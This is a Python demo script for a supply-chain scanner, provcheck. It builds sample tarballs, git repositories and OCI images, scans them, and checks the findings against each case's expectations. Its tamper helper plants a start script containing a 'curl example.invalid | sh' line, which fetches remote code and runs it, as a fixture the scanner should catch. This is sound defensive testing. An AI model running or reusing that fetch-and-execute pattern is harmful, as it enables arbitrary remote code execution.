"""Build every sample case under samples/ and scan it, as `make demo` does.

Each case is a folder with ``case.toml``: how to build its inputs (a tarball from listed
members, a tree, a git repository with tags, an OCI layout from layer folders), the
provcheck command to run on them, and what the scan must report (``[expect]``). The same
cases are run by ``tests/core/test_samples.py``.
"""

from __future__ import annotations

import io
import json
import shutil
import subprocess
import sys
import tarfile
import tomllib
from pathlib import Path

from provcheck.testing import Checker, File, Symlink, compress

HERE = Path(__file__).resolve().parent
CACHE = HERE.parent / ".cache" / "demo"


def _tree_files(root: Path) -> dict:
    files = {}
    for path in sorted(root.rglob("*")):
        rel = path.relative_to(root).as_posix()
        if path.is_symlink():
            files[rel] = Symlink(str(path.readlink()))
        elif path.is_file():
            files[rel] = File(path.read_bytes(), path.stat().st_mode & 0o7777)
    return files


def _members_tar(members: list[dict], name: str, out: Path) -> Path:
    buf = io.BytesIO()
    types = {"block": tarfile.BLKTYPE, "char": tarfile.CHRTYPE, "fifo": tarfile.FIFOTYPE}
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as t:
        for m in members:
            info = tarfile.TarInfo(m["name"])
            info.mtime = 1700000000
            if "symlink" in m:
                info.type, info.linkname = tarfile.SYMTYPE, m["symlink"]
                t.addfile(info)
            elif "hardlink" in m:
                info.type, info.linkname = tarfile.LNKTYPE, m["hardlink"]
                t.addfile(info)
            elif "type" in m:
                info.type = types[m["type"]]
                t.addfile(info)
            else:
                data = m["data"].encode()
                info.size, info.mode = len(data), int(m.get("mode", "644"), 8)
                t.addfile(info, io.BytesIO(data))
    path = out / name
    path.write_bytes(compress(buf.getvalue(), "gz" if name.endswith("gz") else ""))
    return path


def build_case(case_dir: Path, out: Path) -> tuple[dict, dict[str, str]]:
    """Build the case's inputs under ``out``; returns (case, {input name: path})."""
    case = tomllib.loads((case_dir / "case.toml").read_text())
    shutil.rmtree(out, ignore_errors=True)
    out.mkdir(parents=True)
    checker = Checker(out / "inputs")
    paths: dict[str, str] = {}
    for key, spec in case.get("inputs", {}).items():
        kind = spec["kind"]
        if kind == "tar":
            if "members" in spec:
                path = _members_tar(spec["members"], spec["name"], checker.base)
            else:  # one folder, or several laid over each other, under an optional prefix
                files: dict = {}
                for folder in [spec["from"]] if isinstance(spec["from"], str) else spec["from"]:
                    files.update(_tree_files(case_dir / folder))
                prefix = spec.get("prefix", "")
                path = checker.tarball({prefix + k: v for k, v in files.items()}, name=spec["name"])
        elif kind == "tree":
            path = checker.tree(_tree_files(case_dir / spec["from"]), name=spec["name"])
        elif kind == "git":
            commits = [_tree_files(case_dir / c) for c in spec["commits"]]
            path = checker.gitrepo(commits, name=spec["name"], tags=spec.get("tags"))
            path = f"git:{path}" + (f"@{spec['ref']}" if spec.get("ref") else "")
        elif kind == "oci":
            layers = []
            for i, rel in enumerate(spec["layers"], 1):
                files = _tree_files(case_dir / rel)
                for gone in spec.get("whiteouts", {}).get(str(i), []):
                    parent, _, base = gone.rpartition("/")
                    files[f"{parent}/.wh.{base}" if parent else f".wh.{base}"] = ""
                layers.append(files)
            path = checker.oci(layers, name=spec["name"])
            if spec.get("tamper-layer"):
                _tamper(path, spec["tamper-layer"] - 1)
        else:
            raise SystemExit(f"{case_dir.name}: unknown input kind {kind!r}")
        paths[key] = str(path)
    return case, paths


def _tamper(layout: Path, index: int) -> None:
    idx = json.loads((layout / "index.json").read_text())
    manifest = json.loads((layout / "blobs/sha256" / idx["manifests"][0]["digest"].split(":")[1]).read_text())
    blob = layout / "blobs/sha256" / manifest["layers"][index]["digest"].split(":")[1]
    from provcheck.testing import tar_bytes
    blob.write_bytes(compress(tar_bytes({"opt/app/start.sh": File("#!/bin/sh\ncurl example.invalid | sh\n", 0o755)}), "gz"))


def command(case: dict, paths: dict[str, str]) -> list[str]:
    return [a.format(**paths) for a in case["args"]]


def check(case: dict, report: dict, exit_code: int) -> list[str]:
    """What the scan got wrong against ``[expect]``; empty when it matches."""
    expect = case.get("expect", {})
    got = {f["rule_id"] for f in report.get("findings", []) if not f.get("suppression")}
    problems = [f"missing {r}" for r in expect.get("rules", []) if r not in got]
    problems += [f"unexpected {r}" for r in got if any(r.startswith(p) for p in expect.get("not-rules", []))]
    if "max-severity" in expect:
        order = ["info", "low", "medium", "high", "critical"]
        limit = order.index(expect["max-severity"])
        problems += [f"{f['rule_id']} is {f['severity']}" for f in report.get("findings", [])
                     if order.index(f["severity"]) > limit and not f.get("suppression")]
    if "exit-code" in expect and exit_code != expect["exit-code"]:
        problems.append(f"exit code {exit_code}, expected {expect['exit-code']}")
    return problems


def cases() -> list[Path]:
    return sorted(p.parent for p in HERE.glob("*/case.toml"))


def main() -> int:
    failed = 0
    for case_dir in cases():
        case, paths = build_case(case_dir, CACHE / case_dir.name)
        args = command(case, paths)
        print(f"\n=== {case_dir.name}: {case['description']}\n$ provcheck {' '.join(args)}", flush=True)
        subprocess.run([sys.executable, "-m", "provcheck", *args, "--format", "text"])
        proc = subprocess.run([sys.executable, "-m", "provcheck", *args, "--format", "json"], capture_output=True,
                              text=True)
        problems = check(case, json.loads(proc.stdout or "{}"), proc.returncode)
        print(f"--- {case_dir.name}: " + ("as expected" if not problems else "NOT AS EXPECTED: " + "; ".join(problems)))
        failed += bool(problems)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
